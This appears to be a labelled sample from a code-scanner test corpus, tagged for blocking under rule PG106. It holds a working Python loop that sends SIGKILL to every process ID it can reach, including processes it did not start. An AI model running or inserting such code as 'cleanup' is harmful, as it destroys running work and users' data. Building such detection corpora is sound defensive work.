# pyguard-corpus: verdict=block category=import rules=PG106
# what: "cleans up" by sending SIGKILL to every process id it can, including ones the code did not start
import os
import signal

for pid in range(2, 32768):
    if pid == os.getpid():
        continue
    try:
        os.kill(pid, signal.SIGKILL)
    except (ProcessLookupError, PermissionError):
        pass
